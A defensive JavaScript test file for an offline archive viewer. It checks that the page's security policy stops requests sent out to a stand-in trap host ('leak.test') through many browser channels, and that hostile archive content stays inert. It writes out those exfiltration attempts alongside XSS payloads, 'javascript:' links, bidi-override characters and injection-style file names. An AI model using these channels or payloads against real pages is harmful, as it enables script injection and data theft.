// Nothing leaves the page, and nothing in an archive does anything.
//
// The browser's proxy is a trap, so that a request that gets out is seen from outside. Each way out is tried in the page and
// in its worker: first with the page's policy, which must stop it, then in a copy without the policy, where it must reach
// the trap. A way that no longer works there would prove nothing.

import assert from "node:assert/strict";
import { cpSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import {
  PAGE,
  PATIENCE,
  archive,
  assertAgrees,
  assertQuiet,
  launch,
  more,
  open,
  outcome,
  sampleWorkspace,
  strangers,
  temporary,
  verify,
  write,
} from "./harness.mjs";

/** Ways out of a page. Each is tried with a host of its own, so that the trap tells them apart. */
const WAYS = {
  fetch: (url) => fetch(url, { mode: "no-cors" }),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.send();
  },
  beacon: (url) => navigator.sendBeacon(url, "x"),
  websocket: (url) => new WebSocket(url.replace("http", "ws")),
  eventsource: (url) => new EventSource(url),
  image: (url) => {
    new Image().src = url;
  },
  audio: (url) => {
    new Audio(url).load();
  },
  script: (url) => document.head.append(Object.assign(document.createElement("script"), { src: url })),
  style: (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url })),
  prefetch: (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: url })),
  font: (url) => new FontFace("leak", `url(${url})`).load(),
  background: (url) => {
    const element = document.createElement("div");
    element.textContent = "x";
    document.body.append(element);
    element.style.backgroundImage = `url(${url})`;
  },
  frame: (url) => document.body.append(Object.assign(document.createElement("iframe"), { src: url })),
  object: (url) => document.body.append(Object.assign(document.createElement("object"), { data: url })),
  import: (url) => import(url),
  markup: (url) => document.body.insertAdjacentHTML("beforeend", `<img src="${url}">`),
  // The last one, because where it is allowed the page is left.
  form: (url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
    document.body.append(form);
    form.submit();
  },
};

/** Ways out of a worker. */
const WORKER_WAYS = {
  "worker-fetch": (url) => fetch(url, { mode: "no-cors" }),
  "worker-websocket": (url) => new WebSocket(url.replace("http", "ws")),
  "worker-script": (url) => importScripts(url),
};

const host = (way) => `${way}.leak.test`;

async function tryAll(place, ways) {
  for (const [way, attempt] of Object.entries(ways)) {
    const call = `(${attempt})("http://${host(way)}/")`;
    // It may throw, which is a way of being stopped; what counts is what reaches the trap.
    await place.evaluate(`(async () => { try { await Promise.race([${call}, new Promise((go) => setTimeout(go, 300))]); } catch {} })()`).catch(() => {});
  }
}

/** Opens the page, checks an archive so that there is a worker, and tries to get out. */
async function breakOut(browser, page, workspace) {
  const tab = await open(browser, { page });
  await tab.page.setInputFiles("#folder", workspace);
  await outcome(tab.page);
  const [worker] = tab.page.workers();
  assert.ok(worker, "there is a worker");
  await tryAll(worker, WORKER_WAYS);
  await tryAll(tab.page, WAYS);
  await new Promise((done) => setTimeout(done, 500));
  return tab;
}

test("nothing leaves the page", async (context) => {
  const directory = temporary(context);
  const { workspace } = sampleWorkspace(directory);
  const ways = [...Object.keys(WORKER_WAYS), ...Object.keys(WAYS)];

  await context.test("with its policy, every way out is closed", async (context) => {
    const { browser, caught } = await launch(context);
    const tab = await breakOut(browser, PAGE, workspace);
    assert.deepEqual(strangers(caught), []);
    assert.equal(tab.page.url(), tab.url, "the page is still there");
    assert.equal(await tab.page.evaluate(() => document.querySelector("#verdict").textContent), "Whole");
  });

  await context.test("without it, they are open: the trap works", async (context) => {
    const { browser, caught } = await launch(context);
    const bare = join(directory, "bare.html");
    const html = readFileSync(PAGE, "utf8");
    const without = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
    assert.notEqual(without, html);
    writeFileSync(bare, without);
    await breakOut(browser, bare, workspace);
    const closed = ways.filter((way) => !caught.some((line) => line.includes(host(way))));
    assert.deepEqual(closed, [], "these would have proved nothing");
  });

  await context.test("the policy is the strictest there is, and the page has no way around it", async () => {
    const html = readFileSync(PAGE, "utf8");
    const [, policy] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
    const directives = Object.fromEntries(policy.split("; ").map((directive) => directive.split(/ (.*)/s)));
    assert.equal(directives["default-src"], "'none'");
    assert.equal(directives["connect-src"], "'none'");
    assert.match(directives["script-src"], /^'sha256-[\w+/=]{44}' 'wasm-unsafe-eval'$/);
    assert.match(directives["style-src"], /^'sha256-[\w+/=]{44}'$/);
    assert.equal(directives["worker-src"], "blob:");
    assert.equal(directives["require-trusted-types-for"], "'script'");
    for (const [name, value] of Object.entries(directives)) {
      assert.ok(!/unsafe-(inline|eval)(?!\w)|https?:|\*|data:/.test(value.replace("'wasm-unsafe-eval'", "")), `${name} ${value}`);
    }
    assert.ok(html.indexOf("Content-Security-Policy") < html.indexOf("<style"), "before anything that it is about");
    // What a policy does not cover, the page must not have: other connections, and leaving for another address.
    for (const way of ["RTCPeerConnection", "WebTransport", "preconnect", "dns-prefetch", "window.open", "location.href", "http://", "https://"]) {
      assert.ok(!html.includes(way), way);
    }
    const links = [...html.matchAll(/(?:href|src|action)="([^"]*)"/g)].map(([, target]) => target);
    assert.ok(links.every((target) => target.startsWith("#")), links.join());
  });
});

test("what is in an archive does nothing", async (context) => {
  const { browser, caught } = await launch(context);
  const directory = temporary(context);
  const leak = "http://leak.test/";
  const markup = [
    "<script>window.ran = 'script'</script>",
    `<img src="${leak}img" onerror="window.ran = 'onerror'">`,
    "<svg onload=\"window.ran = 'onload'\"></svg>",
    "<a href=\"javascript:window.ran = 'link'\">click me</a>",
    `<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>`,
    `<form action="${leak}form"><button>Choose a folder</button></form>`,
    `<style>@import "${leak}css"; body { display: none }</style><link rel=stylesheet href="${leak}link">`,
    `<meta http-equiv="refresh" content="0; url=${leak}refresh">`,
    `[link](javascript:window.ran='markdown') ![image](${leak}markdown) <!-- --> ]]> \${window.ran} {{script}}`,
    "</div></li></ol></section><h2>Whole</h2><p>Nothing is wrong",
  ].join("\n");
  const directions = "\u202eesrever\u202c \u2067isolated\u2069 \u200f\u061c and\u0000\u0007\u001b[31m \u0085\u2028\u2029 \ufeff\u{e0041}\u{e0042} end";
  const shownDirections =
    "U+202EesreverU+202C U+2067isolatedU+2069 U+200FU+061C andU+0000U+0007U+001B[31m U+0085U+2028U+2029 U+FEFFU+E0041U+E0042 end";
  const tower = `Z${"\u0310".repeat(500)}algo`;
  const workspace = join(directory, "hostile");
  const turn = (id, text, more = {}) => ({ provider: "p", thread: "t", id, role: "user", text, trust: "trusted", ...more });
  archive(workspace, [
    turn("markup", markup, { speaker: { id: "<b onclick=alert(1)>", display: "<img src=x onerror=alert(1)>" } }),
    turn("directions", directions, { speaker: { id: "u\u202e1", display: "Ada" } }),
    turn("tower", tower.repeat(20)),
    turn("lookalike", "x", { speaker: { id: "u-1", display: "Аda" } }),
    turn("emoji", "👩‍👩‍👧 नमस्ते کتاب‌ها", {}),
    turn("crlf", "a\r\nb\rc", {}),
  ]);
  const names = ["<img src=x onerror=alert(1)>.md", "\u202edm.live.md", "new\nline.md", "'\";--.md", "a".repeat(250) + ".md"];
  for (const name of names) write(join(workspace, "sources", name), Buffer.from("<script>window.ran = 'file'</script>\xff", "latin1"));
  write(join(workspace, "sources/p/_v2/torn.md"), `<!-- openprogram-source-archive:v2 -->\n\n${markup.slice(0, 40)}\u202e<b>\n`);

  const tab = await open(browser);
  const { page } = tab;
  const before = await page.evaluate(() => [...new Set([...document.querySelectorAll("*")].map(({ tagName }) => tagName))]);
  await page.setInputFiles("#folder", workspace);
  const shown = await outcome(page);
  const coded = (text) => text?.replace(/\p{Cf}|\n/gu, (mark) => `U+${mark.codePointAt(0).toString(16).toUpperCase().padStart(4, "0")}`);
  const cut = (text) => (text?.length > 200 ? `${text.slice(0, 200)}…` : text);
  assertAgrees(shown, verify(workspace), (path) => cut(coded(path)));
  assert.ok(shown.findings.length > names.length);
  assert.deepEqual(
    shown.trusted.map(({ name }) => name).sort(),
    ["<img src=x onerror=alert(1)> <b onclick=alert(1)>", "Ada uU+202E1", "Аda u-1"].sort(),
  );

  await page.locator("#conversations").getByRole("button", { name: "t p" }).click();
  await page.locator(".record").first().waitFor();
  await more(page, "Show more");
  const said = await page.locator(".record .said").allTextContents();
  assert.deepEqual(said, [markup, shownDirections, tower.repeat(20), "x", "👩‍👩‍👧 नमस्ते کتاب‌ها", "a\r\nbU+000Dc"]);

  // Nothing ran, nothing was made of it but text, and it can be clicked anywhere.
  for (const place of await page.locator(".foreign").all()) await place.click({ force: true, timeout: PATIENCE }).catch(() => {});
  const after = await page.evaluate(() => [...new Set([...document.querySelectorAll("*")].map(({ tagName }) => tagName))]);
  const ours = new Set([...before, "BDI", "BUTTON", "CODE", "DD", "DIV", "DT", "H3", "LI", "OL", "PRE", "SECTION", "SPAN", "UL"]);
  assert.deepEqual(after.filter((name) => !ours.has(name)), []);
  assert.equal(await page.evaluate(() => window.ran), undefined);
  assert.equal(page.url(), tab.url);
  const attributes = await page.evaluate(() => [...document.querySelectorAll("main *")].flatMap((found) => found.getAttributeNames()));
  assert.deepEqual(attributes.filter((name) => name.startsWith("on") || ["style", "srcdoc", "src"].includes(name)), []);

  // No text of an archive reaches beyond its frame: neither by direction nor by marks that tower over it.
  const spill = await page.evaluate(() => {
    const frames = [...document.querySelectorAll(".said")];
    return frames.filter((frame) => {
      const { unicodeBidi, overflowX, contain } = getComputedStyle(frame);
      return unicodeBidi !== "plaintext" || overflowX !== "hidden" || !contain.includes("content");
    }).length;
  });
  assert.equal(spill, 0);
  const isolated = await page.evaluate(() =>
    [...document.querySelectorAll("bdi.foreign")].every((name) => getComputedStyle(name).unicodeBidi === "isolate"),
  );
  assert.ok(isolated);
  assertQuiet(tab);
  assert.deepEqual(strangers(caught), []);
});
